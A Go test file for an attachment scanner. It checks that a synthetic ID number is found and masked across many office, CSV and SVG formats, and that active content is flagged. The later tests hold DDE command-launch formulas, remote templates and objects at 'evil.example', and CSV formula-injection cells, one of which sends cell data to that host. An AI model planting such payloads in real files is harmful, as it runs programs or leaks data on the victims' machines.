package attachment

import (
	"fmt"
	"strings"
	"testing"
)

const (
	mainSpace   = `xmlns:w="w" xmlns:a="a"`
	wordText    = `<w:p><w:r><w:t>` + id + `</w:t></w:r></w:p>`
	drawingText = `<a:p><a:r><a:t>110105</a:t></a:r><a:r><a:rPr><a:latin typeface="x"/></a:rPr><a:t>19491231002X</a:t></a:r></a:p>`
	body        = `<w:document ` + mainSpace + `><w:body>` + wordText + `</w:body></w:document>`
	masked      = "110***************"
)

// relations is a part of relations, each by its kind and target.
func relations(list ...string) string {
	var b strings.Builder
	b.WriteString(`<Relationships>`)
	for i := 0; i+1 < len(list); i += 2 {
		mode := ""
		target, external := strings.CutPrefix(list[i+1], "!")
		if external {
			mode = ` TargetMode="External"`
		}
		fmt.Fprintf(&b, `<Relationship Id="rId%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s"%s/>`, i/2+1, list[i], target, mode)
	}
	return b.String() + `</Relationships>`
}

// TestPartsThatNobodyNames: whatever a part is called and wherever it lies, its
// words are looked through. A list of the names that office programs use is
// never whole.
func TestPartsThatNobodyNames(t *testing.T) {
	clean := `<w:p><w:r><w:t>公开</w:t></w:r></w:p>`
	with := func(part, text string) []byte { return doc(t, clean, map[string]string{part: text}) }
	in := func(parts ...string) []byte {
		m := map[string]string{}
		for i := 0; i < len(parts); i += 2 {
			m[parts[i]] = parts[i+1]
		}
		return zipped(t, m)
	}
	sheet := cells(1, "", "姓名", "村") + cells(2, "", "王*", "白果村")
	sheets := func(part, text string) []byte {
		return book(t, map[string]string{part: text}, [2]string{"名单", sheet})
	}
	numbers := `<worksheet><sheetData>` + cells(1, "", id) + `</sheetData></worksheet>`
	workbook := `<workbook><sheets><sheet name="名单" r:id="rId1"/></sheets></workbook>`
	slide := `<p:sld><p:txBody>` + drawingText + `</p:txBody></p:sld>`
	for _, c := range []struct {
		name, kind string
		src        []byte
		want       string // of what is told
	}{
		{"a main part of another name", ".docx", in("_rels/.rels", relations("officeDocument", "word/document2.xml"), "word/document2.xml", body), "正文 " + masked},
		{"a main part in another folder", ".docx", in("_rels/.rels", relations("officeDocument", "/foo/bar.xml"), "foo/bar.xml", body), "正文 " + masked},
		{"a main part without a relation", ".docx", in("foo/bar.xml", body), "部件“foo/bar.xml” " + masked},
		{"another case", ".docx", in("Word/Document.xml", body), "正文 " + masked},
		{"another slash", ".docx", in(`word\document.xml`, body), "正文 " + masked},
		{"a slash before", ".docx", in("/word/document.xml", body), "正文 " + masked},
		{"two that differ by case", ".docx", in("word/document.xml", body, "Word/document.xml", body), strangeForm.ZH},
		{"no text at all", ".docx", in("word/styles.xml", "<w:styles/>"), noParts.ZH},
		{"a page that is taken in", ".docx", doc(t, `<w:altChunk r:id="r1"/>`, map[string]string{"word/afchunk.mht": "MIME-Version: 1.0\n\n" + id}), "部件“word/afchunk.mht” " + masked},
		{"a page that is taken in is no reading", ".docx", doc(t, `<w:altChunk r:id="r1"/>`, map[string]string{"word/afchunk.mht": "MIME-Version: 1.0\n\n=31=31"}), "有没检查的部分"},
		{"an entity", ".docx", in("word/document.xml", `<!DOCTYPE w [<!ENTITY i "`+id+`">]>`+strings.ReplaceAll(body, id, "&i;")), "正文 " + masked},
		{"an entity in two", ".docx", in("word/document.xml", `<!DOCTYPE w [<!ENTITY i "110105"><!ENTITY k "19491231002X">]>`+strings.ReplaceAll(body, id, "&i;&k;")), strangeForm.ZH},
		{"a diagram", ".docx", with("word/diagrams/data1.xml", `<dgm:dataModel><dgm:pt><dgm:t>`+drawingText+`</dgm:t></dgm:pt></dgm:dataModel>`), "部件“word/diagrams/data1.xml” " + masked},
		{"a chart", ".docx", with("word/charts/chart1.xml", `<c:chart><c:strCache><c:pt><c:v>`+id+`</c:v></c:pt></c:strCache></c:chart>`), "部件“word/charts/chart1.xml” " + masked},
		{"building blocks", ".docx", with("word/glossary/document.xml", `<w:glossaryDocument>`+wordText+`</w:glossaryDocument>`), "部件“word/glossary/document.xml” " + masked},
		{"custom XML", ".docx", with("customXml/item1.xml", `<x><y>`+id+`</y></x>`), "部件“customXml/item1.xml” " + masked},
		{"custom XML in UTF-16", ".docx", with("customXml/item1.xml", utf16(`<?xml version="1.0" encoding="UTF-16"?><x>`+id+`</x>`)), "部件“customXml/item1.xml” " + masked},
		{"a picture that is XML", ".docx", with("word/media/image1.png", `<x>`+id+`</x>`), "部件“word/media/image1.png” " + masked},
		{"a property of one's own", ".docx", with("docProps/custom.xml", `<Properties><property><vt:lpwstr>`+id+`</vt:lpwstr></property></Properties>`), "文档属性 " + masked},
		{"a description", ".docx", with("docProps/core.xml", `<cp><dc:description>`+id+`</dc:description></cp>`), "文档属性 " + masked},
		{"keywords", ".docx", with("docProps/core.xml", `<cp><cp:keywords>`+id+`</cp:keywords></cp>`), "文档属性 " + masked},
		{"an alternative text", ".docx", doc(t, `<w:p><wp:docPr id="1" descr="`+id+`"/></w:p>`, nil), "正文 " + masked},
		{"a remark", ".docx", doc(t, `<!-- `+id+` -->`+clean, nil), "正文 " + masked},
		{"a comment in two runs", ".docx", with("word/comments.xml", `<w:comments><w:p><w:r><w:t>110105</w:t></w:r><w:r><w:t>19491231002X</w:t></w:r></w:p></w:comments>`), "批注 " + masked},
		{"a variable", ".docx", with("word/settings.xml", `<w:settings><w:docVars><w:docVar w:val="`+id+`"/></w:docVars></w:settings>`), "部件“word/settings.xml” " + masked},
		{"symbols", ".docx", doc(t, `<w:p><w:r><w:t>11010519491231002</w:t><w:sym w:font="Arial" w:char="F058"/></w:r></w:p>`, nil), "正文 " + masked},
		{"a part of an unknown kind", ".docx", with("word/data.dat", "\x01\x02\xff\xff"), "有没检查的部分：word/data.dat"},

		{"a sheet that is not there", ".xlsx", in("xl/workbook.xml", workbook, "xl/_rels/workbook.xml.rels", relations("worksheet", "worksheets/s.xml")), "有没检查的部分：名单"},
		{"a sheet in another case", ".xlsx", in("xl/workbook.xml", workbook, "xl/_rels/workbook.xml.rels", relations("worksheet", "Worksheets/S.xml"), "xl/worksheets/s.xml", numbers), "工作表“名单”第 1 行 " + masked},
		{"a sheet by escapes", ".xlsx", in("xl/workbook.xml", workbook, "xl/_rels/workbook.xml.rels", relations("worksheet", "worksheets/%73.xml"), "xl/worksheets/s.xml", numbers), "工作表“名单”第 1 行 " + masked},
		{"a workbook of another name", ".xlsx", in("_rels/.rels", relations("officeDocument", "xl/workbook2.xml"), "xl/workbook2.xml", workbook, "xl/_rels/workbook2.xml.rels", relations("worksheet", "worksheets/s.xml"), "xl/worksheets/s.xml", numbers),
			"工作表“名单”第 1 行 " + masked},
		{"a sheet that no workbook lists", ".xlsx", sheets("xl/worksheets/sheet9.xml", numbers), "部件“xl/worksheets/sheet9.xml”第 1 行 " + masked},
		{"strings of another name", ".xlsx", in("xl/workbook.xml", workbook, "xl/_rels/workbook.xml.rels", relations("worksheet", "s.xml", "sharedStrings", "texts.xml"),
			"xl/s.xml", `<worksheet><row r="3"><c t="s"><v>0</v></c></row></worksheet>`, "xl/texts.xml", `<sst><si><t>`+id+`</t></si></sst>`), "工作表“名单”第 3 行 " + masked},
		{"a string that no cell has", ".xlsx", sheets("xl/sharedStrings.xml", `<sst><si><t>`+id+`</t></si></sst>`), "没有单元格用到的文字 " + masked},
		{"a text box", ".xlsx", sheets("xl/drawings/drawing1.xml", `<xdr:wsDr><xdr:sp><xdr:txBody>`+drawingText+`</xdr:txBody></xdr:sp></xdr:wsDr>`), "部件“xl/drawings/drawing1.xml” " + masked},
		{"a page header", ".xlsx", book(t, nil, [2]string{"名单", sheet + `<headerFooter><oddHeader>&amp;C&amp;"宋体,常规"&amp;9` + id + `</oddHeader></headerFooter>`}), "工作表“名单”的页眉页脚 " + masked},
		{"a chart", ".xlsx", sheets("xl/charts/chart1.xml", `<c:chart><c:title>`+drawingText+`</c:title></c:chart>`), "部件“xl/charts/chart1.xml” " + masked},
		{"an old drawing", ".xlsx", sheets("xl/drawings/vmlDrawing1.vml", `<xml><v:textbox><div>`+id+`<br></div></v:textbox></xml>`), "部件“xl/drawings/vmlDrawing1.vml” " + masked},
		{"a connection", ".xlsx", sheets("xl/connections.xml", `<connections><connection name="`+id+`"/></connections>`), "部件“xl/connections.xml” " + masked},
		{"a table's column", ".xlsx", sheets("xl/tables/table1.xml", `<table><tableColumn name="`+id+`"/></table>`), "部件“xl/tables/table1.xml” " + masked},
		{"a query", ".xlsx", sheets("xl/queryTables/queryTable1.xml", `<queryTable name="`+id+`"/>`), "部件“xl/queryTables/queryTable1.xml” " + masked},
		{"a formula", ".xlsx", book(t, nil, [2]string{"名单", `<row r="1"><c r="A1"><f>"110105"&amp;"19491231002X"</f></c></row>`}), "工作表“名单” " + masked},
		{"what may be chosen", ".xlsx", book(t, nil, [2]string{"名单", sheet + `<dataValidation><formula1>"` + id + `,无"</formula1></dataValidation>`}), "工作表“名单” " + masked},
		{"a sheet in binary form", ".xlsx", sheets("xl/worksheets/sheet2.bin", "\x01\x02\xff"), "有没检查的部分：xl/worksheets/sheet2.bin"},
		{"a name that is defined", ".xlsx", sheets("xl/workbook2.xml", `<workbook><definedName name="a">"`+id+`"</definedName></workbook>`), "部件“xl/workbook2.xml” " + masked},

		{"a chart", ".pptx", in("ppt/slides/slide1.xml", `<p:sld/>`, "ppt/charts/chart1.xml", `<c:v>`+id+`</c:v>`), "部件“ppt/charts/chart1.xml” " + masked},
		{"a diagram", ".pptx", in("ppt/slides/slide1.xml", `<p:sld/>`, "ppt/diagrams/data1.xml", drawingText), "部件“ppt/diagrams/data1.xml” " + masked},
		{"a master", ".pptx", in("ppt/slides/slide1.xml", `<p:sld/>`, "ppt/slideMasters/slideMaster1.xml", drawingText), "部件“ppt/slideMasters/slideMaster1.xml” " + masked},
		{"a slide in another case", ".pptx", in("ppt/slides/Slide1.xml", slide), "第 1 张幻灯片 " + masked},
		{"a slide in another folder", ".pptx", in("a/b.xml", slide), "部件“a/b.xml” " + masked},
		{"a page in another folder", ".ofd", in("Doc_0/P/1.xml", "<ofd:TextCode>"+id+"</ofd:TextCode>"), "部件“Doc_0/P/1.xml” " + masked},
		{"a page in another case", ".ofd", in(`Doc_0\pages\1.XML`, "<ofd:TextCode>"+id+"</ofd:TextCode>"), "页面 Doc_0/pages/1.XML " + masked},
		{"keywords", ".ofd", in("OFD.xml", "<ofd:DocInfo><ofd:Keyword>"+id+"</ofd:Keyword></ofd:DocInfo>"), "部件“OFD.xml” " + masked},
		{"shapes", ".ofd", in("Doc_0/Pages/1.xml", "<ofd:TextCode DeltaX=\"4 4 4 4 4 4 4 4 4 4 4 4\">公开公开公开</ofd:TextCode><ofd:AbbreviatedData>M "+id+"</ofd:AbbreviatedData>"), ""},

		{"no slide", ".pptx", in("ppt/presentation.xml", `<p:presentation/>`), noParts.ZH},
	} {
		t.Run(c.kind+" "+c.name, func(t *testing.T) {
			if got := told(Look(c.kind, c.src)); !strings.Contains(got, c.want) || c.want == "" && got != "" {
				t.Errorf("%q, want %q", got, c.want)
			}
		})
	}
}

// utf16 is a text in UTF-16, its lesser bytes first, with a mark before it.
func utf16(s string) string {
	b := []byte("\xff\xfe")
	for _, c := range s {
		b = append(b, byte(c), byte(c>>8))
	}
	return string(b)
}

// TestUsualPartsTellNothing: what office programs write into every file.
func TestUsualPartsTellNothing(t *testing.T) {
	usual := map[string]string{
		"[Content_Types].xml":          `<Types><Default Extension="png" ContentType="image/png"/></Types>`,
		"_rels/.rels":                  relations("officeDocument", "word/document.xml", "core-properties", "docProps/core.xml", "thumbnail", "docProps/thumbnail.jpeg"),
		"docProps/app.xml":             `<Properties><Template>Normal.dotm</Template><TotalTime>12</TotalTime><Characters>1380013800</Characters><AppVersion>16.0000</AppVersion></Properties>`,
		"docProps/core.xml":            `<cp><dc:title>通知</dc:title><dcterms:created>2026-03-01T08:00:00Z</dcterms:created></cp>`,
		"docProps/custom.xml":          `<Properties><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" name="KSOProductBuildVer"><vt:lpwstr>2052-12.1.0.16120</vt:lpwstr></property><property name="ICV"><vt:lpwstr>0C5D1E3A4B5C6D7E8F90A1B2C3D4E5F6_13</vt:lpwstr></property></Properties>`,
		"docProps/thumbnail.jpeg":      "\xff\xd8\xff\xe0",
		"word/theme/theme1.xml":        `<a:theme><a:latin panose="02020603050405020304"/><a:ext uri="{05A4C25C-085E-4340-85A3-A5531E510DB2}"/></a:theme>`,
		"word/styles.xml":              `<w:styles><w:style w:styleId="a"><w:name w:val="Normal"/><w:vanish/></w:style></w:styles>`,
		"word/settings.xml":            `<w:settings><w:rsid w:val="00138001"/><w15:docId w15:val="{13800138-0001-3800-1380-013800138000}"/><w:docVar w:name="commondata" w:val="eyJoZGlkIjoiNjM0NTIxYWI0NTY3ODkwMTIzNDU2Nzg5MDEyMzQ1NjcifQ=="/></w:settings>`,
		"word/fontTable.xml":           `<w:fonts><w:font><w:panose1 w:val="02020603050405020304"/></w:font></w:fonts>`,
		"word/webSettings.xml":         `<w:webSettings/>`,
		"word/numbering.xml":           `<w:numbering><w:nsid w:val="138E5B2C"/></w:numbering>`,
		"word/_rels/document.xml.rels": relations("attachedTemplate", "!file:///C:/Users/a/Normal.dotm", "hyperlink", "!https://www.gov.cn/zhengce/13800138000.htm"),
		"word/media/image1.png":        "\x89PNG\r\n\x1a\n",
		"word/media/image2.emf":        "\x01\x00\x00\x00",
		"word/fonts/font1.odttf":       "\x01\x02\x03",
		"word/media/image3.tmp":        "GIF89a\x01\x00",
		"customXml/item1.xml":          `<?xml version="1.0" encoding="iso-8859-1"?><x/>`,
		"word/empty.dat":               "",
		"word/people.xml":              `<w15:people/>`,
		"word/commentsIds.xml":         "",
		"word/charts/chart1.xml":       `<c:chart><c:axId val="1380013800"/><c:numCache><c:pt><c:v>13800138000</c:v></c:pt></c:numCache></c:chart>`,
	}
	text := `<w:p w:rsidR="00138001" w14:paraId="13800138"><w:r><w:rPr><w:rFonts w:eastAsia="仿宋_GB2312"/></w:rPr><w:t>公开</w:t></w:r>` +
		`<w:drawing><wp:extent cx="5274310" cy="1380013800"/><wp:posOffset>1380013800</wp:posOffset><a:ext uri="{28A0092B-C50C-407E-A947-70E740481C1C}"/></w:drawing>` +
		`<w:r><w:instrText> PAGE \* MERGEFORMAT </w:instrText></w:r></w:p>`
	if got := told(Look(".docx", doc(t, text, usual))); got != "" {
		t.Error(got)
	}
	if got := told(Look(".xlsx", book(t, map[string]string{
		"[Content_Types].xml":                     usual["[Content_Types].xml"],
		"xl/styles.xml":                           `<styleSheet><numFmts><numFmt formatCode="0_);[Red]\(0\)"/></numFmts></styleSheet>`,
		"xl/theme/theme1.xml":                     usual["word/theme/theme1.xml"],
		"xl/calcChain.xml":                        `<calcChain><c r="A1" i="1"/></calcChain>`,
		"xl/printerSettings/printerSettings1.bin": "\x01\x00",
		"xl/worksheets/_rels/sheet1.xml.rels":     relations("printerSettings", "../printerSettings/printerSettings1.bin"),
		"xl/drawings/vmlDrawing1.vml":             `<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape style='position:absolute;margin-left:59.25pt'><x:Anchor>1, 15, 0, 2, 3, 15, 3, 16</x:Anchor></v:shape></xml>`,
	}, [2]string{"表", cells(1, "", "项目", "金额（元）") + cells(2, "", "合计", "=13800138000") +
		`<row r="3"><c r="B3"><f>SUM(B1:B1048576)+'2026年'!$B$1</f><v>1</v></c></row><headerFooter><oddFooter>第 &amp;P 页，共 &amp;N 页</oddFooter></headerFooter>`}))); got != "" {
		t.Error(got)
	}
}

// TestTextsInOtherDress: what a reader sees as a number, however it is written.
func TestTextsInOtherDress(t *testing.T) {
	var escaped, references, spans, glyphs, wide, blanks strings.Builder
	for i, c := range id {
		fmt.Fprintf(&escaped, `\u%04x`, c)
		fmt.Fprintf(&references, `&#%d;`, c)
		fmt.Fprintf(&spans, "<tspan x=\"%d\">%c</tspan>\n", i, c)
		fmt.Fprintf(&glyphs, "<text x=\"%d\">%c</text>\n", i, c)
		fmt.Fprintf(&wide, "%c\x00", c)
		fmt.Fprintf(&blanks, "\x00\x00%c", c)
	}
	drawn := func(s string) string { return `<svg xmlns="http://www.w3.org/2000/svg"><g>` + s + `</g></svg>` }
	for _, c := range []struct{ name, kind, src, want string }{
		{"UTF-16 without a mark", ".csv", "a\x00,\x00" + wide.String(), "第 1 行 " + masked + "; " + unknownEncoding.ZH},
		{"UTF-16, the other way", ".txt", "\x00" + wide.String(), "第 1 行 " + masked + "; " + unknownEncoding.ZH},
		{"NULs", ".txt", blanks.String(), "第 1 行 " + masked + "; " + unknownEncoding.ZH},
		{"a NUL alone", ".txt", "公开\x00", unknownEncoding.ZH},
		{"escapes", ".json", `{"a": "` + escaped.String() + `"}`, "第 1 行 " + masked},
		{"escapes of JSON that are none", ".json", `{"a": "\u12 \\ \n"}`, ""},
		{"references", ".svg", drawn("<text>" + references.String() + "</text>"), "图里的文字 " + masked},
		{"a span for each letter", ".svg", drawn("<text>" + spans.String() + "</text>"), "图里的文字 " + masked},
		{"a text for each letter", ".svg", drawn(glyphs.String()), "图里的文字 " + masked},
		{"told once", ".svg", drawn("<text>" + id + "</text>"), "第 1 行 " + masked},
		{"an axis", ".svg", drawn("<text>1380</text><text>0138</text><text>000</text><text>2</text><text>3</text>"), ""},
	} {
		if got := told(Look(c.kind, []byte(c.src))); got != c.want {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
}

// TestWhatProgramsRun: what an office program would run or load when it opens a
// file, and what only looks like it.
func TestWhatProgramsRun(t *testing.T) {
	formula := func(f string) []byte {
		return book(t, nil, [2]string{"a", `<row><c><f>` + f + `</f><v>1</v></c></row>`})
	}
	field := func(parts ...string) []byte {
		var b strings.Builder
		for _, p := range parts {
			b.WriteString(`<w:r><w:instrText>` + p + `</w:instrText></w:r>`)
		}
		return doc(t, `<w:p>`+b.String()+`</w:p>`, nil)
	}
	related := func(kind, target string) []byte {
		return doc(t, "", map[string]string{"word/_rels/settings.xml.rels": relations(kind, target)})
	}
	for _, c := range []struct {
		name, kind string
		src        []byte
		want       string
	}{
		{"a formula", ".xlsx", formula("cmd|'/c calc'!A0"), startsProgram.ZH},
		{"a formula with sums", ".xlsx", formula("1+SUM(MSEXCEL|'x'!A0)"), startsProgram.ZH},
		{"a bar in a text", ".xlsx", formula(`A1&amp;"|"&amp;Sheet2!B1&amp;"|"`), ""},
		{"a link by DDE", ".xlsx", book(t, map[string]string{"xl/externalLinks/externalLink1.xml": `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}, [2]string{"a", ""}), startsProgram.ZH},
		{"a field", ".docx", field(` DDEAUTO c:\\windows\\cmd.exe "/k calc" `), startsProgram.ZH},
		{"a field in two runs", ".docx", field(` DDE`, `AUTO cmd `), startsProgram.ZH},
		{"a simple field", ".docx", doc(t, `<w:fldSimple w:instr="DDE cmd"/>`, nil), startsProgram.ZH},
		{"other fields", ".docx", field(` TOC \o "1-3" `, ` HYPERLINK "addendum" `, ` ADDEND `), ""},
		{"a template of another machine", ".docx", related("attachedTemplate", "!http://evil.example/a.dotm"), loadsRemote.ZH},
		{"a template of a share", ".docx", related("attachedTemplate", `!\\\\evil.example\\a.dotm`), loadsRemote.ZH},
		{"a template of a share as a file", ".docx", related("attachedTemplate", "!file://evil.example/a.dotm"), loadsRemote.ZH},
		{"one's own template", ".docx", related("attachedTemplate", "!file:///C:\\Users\\a\\Normal.dotm"), ""},
		{"one's own template by its path", ".docx", related("attachedTemplate", "!C:\\Users\\a\\Normal.dotm"), ""},
		{"an object of another machine", ".docx", related("oleObject", "!https://evil.example/a.doc"), loadsRemote.ZH},
		{"a link", ".docx", related("hyperlink", "!https://www.gov.cn/"), ""},
	} {
		if got := Look(c.kind, c.src).Active.ZH; got != c.want {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
}

func TestCellsThatRun(t *testing.T) {
	runs := []string{"=cmd|'/c calc'!A0", `"=HYPERLINK(""http://evil.example/""&A1,""x"")"`, " =SUM(A1)", `='\\\\evil.example\\a\\[b.xlsx]甲'!A1`, "+cmd|'/c calc'!A0", "@SUM(A1)", "-1+cmd|' /c calc'!A0", "＝HYPERLINK(A1)", "a;=SUM(A1);b"}
	still := []string{"=D6+E6", "=1+1", "-", "--", "-5%", "-3.5", "+86 0851", "-1,2", "- 说明（略）", "@所有人", "=", "===", `"=""00123"""`, "=300", "－（无）", "－", "a=b", "1-2", "=>", "-3(下降)", "+/-"}
	for i, cell := range append(runs, still...) {
		want := ""
		if i < len(runs) {
			want = "有以 =、+、- 或 @ 开头的单元格，表格软件打开时会当公式运行"
		}
		if got := told(Look(".csv", []byte("甲,乙\n白果村,"+cell+"\n"))); got != want {
			t.Errorf("%s: %q, want %q", cell, got, want)
		}
	}
}
